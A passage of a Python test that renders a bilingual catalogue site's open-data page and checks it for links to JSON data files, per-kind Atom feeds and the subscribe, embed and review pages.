    html = Renderer(catalogue, SchemaSet(PROJECT / "schema"), lang).open_data_page().html
    assert f'<a href="{root}data/index.json"><code>/data/index.json</code></a>' in html
    testbed = next(iter(catalogue.of_kind("testbed"))).id
    assert (
        f'<a href="{root}data/testbeds/{testbed}.json"><code>/data/testbeds/{testbed}.json</code></a>' in html
    )
    assert (
        "/data/&lt;typ&gt;/&lt;id&gt;.json" if lang == "sv" else "/data/&lt;kind&gt;/&lt;id&gt;.json"
    ) in html
    row = html.split("&lt;id&gt;.json</code>", 1)[1].split("</tr>", 1)[0]
    assert all(plural in row for plural in KIND_PLURALS.values()), row
    for plural in KIND_PLURALS.values():  # each kind's feed, in this language's folder
        assert f'<a href="../feeds/{plural}.xml" type="application/atom+xml">' in html
        assert f"<code>{feeds}{plural}.xml</code>" in html
    for href, texts in (
        ("prenumerera", SUBSCRIBE_TEXTS),
        ("badda-in", EMBED_PAGE_TEXTS),
        ("granskning", REVIEW_TEXTS),
    ):
        assert f'<a href="../{href}/">{texts[lang]["title"]}</a>' in html
